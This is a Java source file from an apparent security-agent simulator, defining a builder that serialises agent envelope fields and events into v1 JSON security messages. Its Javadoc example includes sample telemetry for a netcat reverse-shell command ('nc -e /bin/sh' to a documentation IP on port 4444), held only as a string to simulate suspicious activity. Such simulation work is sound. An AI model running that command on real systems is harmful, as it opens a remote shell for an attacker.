package io.vigil.simulator.agent;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.nio.charset.StandardCharsets;
import java.time.Clock;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Collection;
import java.util.List;
import java.util.Objects;
import java.util.UUID;
import java.util.function.Supplier;

/**
 * A v1 JSON security message as an agent sends it: the envelope ({@code AgentVersion}, {@code AgentId},
 * {@code MessageSchemaVersion "1.0"}) around one or more events.
 *
 * <pre>{@code
 * byte[] body = AgentMessage.from(agentId)
 *         .localOffset(ZoneOffset.ofHours(1))
 *         .event(Events.processCreate("/usr/bin/nc", "nc -e /bin/sh 203.0.113.7 4444"))
 *         .toJson();
 * String topic = DeviceTopic.telemetry("sim-device-1");
 * }</pre>
 *
 * Events without their own id or time get them when the message is written: ids from {@link #ids(Supplier)}
 * (random by default), times from {@link #clock(Clock)} (the system clock by default). Timestamps are written in
 * UTC and in the device's local offset (UTC unless {@link #localOffset(ZoneOffset) set}).
 */
public final class AgentMessage {

    /** The legacy C agent's last release. */
    public static final String DEFAULT_AGENT_VERSION = "0.0.6";
    public static final String MESSAGE_SCHEMA_VERSION = "1.0";

    private static final ObjectMapper JSON = new ObjectMapper();

    private final String agentId;
    private final List<AgentEvent<?>> events = new ArrayList<>();
    private String agentVersion = DEFAULT_AGENT_VERSION;
    private ZoneOffset localOffset = ZoneOffset.UTC;
    private Clock clock = Clock.systemUTC();
    private Supplier<UUID> ids = UUID::randomUUID;

    private AgentMessage(String agentId) {
        this.agentId = agentId;
    }

    /** A message from the agent with this id, which must be a GUID (36 characters). */
    public static AgentMessage from(String agentId) {
        Objects.requireNonNull(agentId, "agentId");
        if (agentId.length() != 36) {
            throw new IllegalArgumentException("AgentId must be a GUID of 36 characters, got: " + agentId);
        }
        return new AgentMessage(UUID.fromString(agentId).toString());
    }

    public static AgentMessage from(UUID agentId) {
        return new AgentMessage(agentId.toString());
    }

    public AgentMessage agentVersion(String agentVersion) {
        this.agentVersion = Objects.requireNonNull(agentVersion, "agentVersion");
        return this;
    }

    /** The device clock's offset from UTC, used for {@code TimestampLocal}. */
    public AgentMessage localOffset(ZoneOffset localOffset) {
        this.localOffset = Objects.requireNonNull(localOffset, "localOffset");
        return this;
    }

    /** The time given to events that have none of their own. */
    public AgentMessage clock(Clock clock) {
        this.clock = Objects.requireNonNull(clock, "clock");
        return this;
    }

    /** Where events without an id of their own get one; pass a seeded source for repeatable output. */
    public AgentMessage ids(Supplier<UUID> ids) {
        this.ids = Objects.requireNonNull(ids, "ids");
        return this;
    }

    public AgentMessage event(AgentEvent<?> event) {
        events.add(Objects.requireNonNull(event, "event"));
        return this;
    }

    public AgentMessage events(Collection<? extends AgentEvent<?>> more) {
        more.forEach(this::event);
        return this;
    }

    public String agentId() {
        return agentId;
    }

    public List<AgentEvent<?>> events() {
        return List.copyOf(events);
    }

    public int eventCount() {
        return events.size();
    }

    /** The message as a JSON tree. Fails if there is no event: the schema wants at least one. */
    public ObjectNode toJsonTree() {
        if (events.isEmpty()) {
            throw new IllegalStateException("a security message needs at least one event");
        }
        EventContext context = new EventContext(localOffset, ids, clock);
        ObjectNode root = AgentEvent.NODES.objectNode();
        root.put("AgentVersion", agentVersion);
        root.put("AgentId", agentId);
        root.put("MessageSchemaVersion", MESSAGE_SCHEMA_VERSION);
        ArrayNode array = root.putArray("Events");
        for (AgentEvent<?> event : events) {
            array.add(event.toJson(context));
        }
        return root;
    }

    /** The message body as UTF-8 JSON bytes, ready to publish. */
    public byte[] toJson() {
        try {
            return JSON.writeValueAsBytes(toJsonTree());
        } catch (JsonProcessingException e) {
            throw new IllegalStateException("cannot write a tree of plain JSON nodes", e);
        }
    }

    public String toJsonString() {
        return new String(toJson(), StandardCharsets.UTF_8);
    }
}
